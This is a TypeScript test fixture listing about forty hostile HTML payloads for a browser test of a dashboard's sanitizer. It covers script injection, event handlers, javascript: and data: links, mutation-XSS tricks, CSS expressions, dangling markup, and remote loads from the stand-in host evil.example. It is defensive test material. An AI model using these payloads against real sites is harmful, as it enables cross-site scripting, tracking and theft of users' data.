/**
 * Replies written to run code or phone home when a dashboard shows them. Every payload that could run calls
 * `window.__pwned(id)` (or sets `top.__pwned`), or asks for https://evil.example/<id>: the browser test watches for both.
 */
export interface HostilePayload {
  id: string;
  html: string;
}

const call = (id: string) => `window.__pwned&&window.__pwned('${id}');parent.__pwned&&parent.__pwned('${id}');top.__pwned&&top.__pwned('${id}')`;
const remote = (id: string) => `https://evil.example/${id}`;

export const hostileHtmlCorpus: HostilePayload[] = [
  { id: 'script-tag', html: `<script>${call('script-tag')}</script>` },
  { id: 'script-src', html: `<script src="${remote('script-src')}.js"></script>` },
  { id: 'script-uppercase-split', html: `<SCR<script>IPT>${call('script-uppercase-split')}</SCR</script>IPT>` },
  { id: 'img-onerror', html: `<img src="x" onerror="${call('img-onerror')}">` },
  { id: 'body-onload', html: `<body onload="${call('body-onload')}">body</body>` },
  { id: 'svg-onload', html: `<svg onload="${call('svg-onload')}"><circle r="5"/></svg>` },
  { id: 'svg-script', html: `<svg><script>${call('svg-script')}</script></svg>` },
  { id: 'svg-animate-href', html: `<svg><a><animate attributeName="href" values="javascript:${call('svg-animate-href')}"/><text y="20">svg link</text></a></svg>` },
  { id: 'javascript-link', html: `<a href="javascript:${call('javascript-link')}">javascript link</a>` },
  { id: 'javascript-entity-link', html: `<a href="jav&#x09;ascript&colon;${call('javascript-entity-link')}">entity link</a>` },
  { id: 'javascript-case-link', html: `<a href=" JaVaScRiPt:${call('javascript-case-link')}">case link</a>` },
  { id: 'data-html-link', html: `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>` },
  { id: 'vbscript-link', html: '<a href="vbscript:msgbox(1)">vbscript link</a>' },
  { id: 'iframe-remote', html: `<iframe src="${remote('iframe-remote')}"></iframe>` },
  { id: 'iframe-srcdoc', html: `<iframe srcdoc="<script>${call('iframe-srcdoc')}</script>"></iframe>` },
  { id: 'object-embed', html: `<object data="${remote('object-embed')}"></object><embed src="${remote('object-embed-2')}">` },
  { id: 'remote-image', html: `<img src="${remote('remote-image')}.gif" alt="pixel">` },
  { id: 'srcset-image', html: `<img srcset="${remote('srcset-image')}.png 1x">` },
  { id: 'picture-source', html: `<picture><source srcset="${remote('picture-source')}.webp"><img src="x"></picture>` },
  { id: 'css-url', html: `<div style="background:url(${remote('css-url')}.png)">css url</div>` },
  { id: 'css-expression', html: `<div style="width: expression(${call('css-expression')})">css expression</div>` },
  { id: 'style-import', html: `<style>@import url(${remote('style-import')}.css); body { background: url(${remote('style-bg')}.png) }</style>` },
  { id: 'link-stylesheet', html: `<link rel="stylesheet" href="${remote('link-stylesheet')}.css">` },
  { id: 'meta-refresh', html: `<meta http-equiv="refresh" content="0;url=${remote('meta-refresh')}">` },
  { id: 'base-href', html: `<base href="${remote('base-href')}/"><a href="relative">relative link</a><img src="relative.png">` },
  { id: 'form-action', html: `<form action="${remote('form-action')}" method="post"><input name="q" value="x"><button>Submit form</button></form>` },
  { id: 'form-autofocus', html: `<input autofocus onfocus="${call('form-autofocus')}">` },
  { id: 'details-ontoggle', html: `<details open ontoggle="${call('details-ontoggle')}"><summary>details</summary></details>` },
  { id: 'video-poster', html: `<video poster="${remote('video-poster')}.png" src="${remote('video-src')}.mp4" onerror="${call('video-poster')}"></video>` },
  { id: 'audio-source', html: `<audio src="x" onerror="${call('audio-source')}"></audio>` },
  { id: 'marquee-onstart', html: `<marquee onstart="${call('marquee-onstart')}">marquee</marquee>` },
  { id: 'mxss-noscript', html: `<noscript><p title="</noscript><img src=x onerror=${call('mxss-noscript').replace(/'/g, '&quot;')}>"></noscript>` },
  { id: 'mxss-svg-style', html: `<svg></p><style><a id="</style><img src=1 onerror=${call('mxss-svg-style').replace(/'/g, '`')}>">` },
  { id: 'mxss-math-mglyph', html: `<math><mtext><table><mglyph><style><img src=x onerror="${call('mxss-math-mglyph')}">` },
  { id: 'mxss-comment', html: `<!--><img src=x onerror="${call('mxss-comment')}">-->` },
  { id: 'mxss-cdata', html: `<svg><![CDATA[><img src=x onerror="${call('mxss-cdata')}">]]></svg>` },
  { id: 'template-shadow', html: `<template shadowrootmode="open"><img src=x onerror="${call('template-shadow')}"></template>` },
  { id: 'xml-namespace', html: `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call('xml-namespace')}</x:script>` },
  { id: 'dangling-markup', html: `<img src='${remote('dangling-markup')}?` },
  { id: 'font-face', html: `<style>@font-face { font-family: x; src: url(${remote('font-face')}.woff) }</style><p style="font-family:x">font</p>` },
];
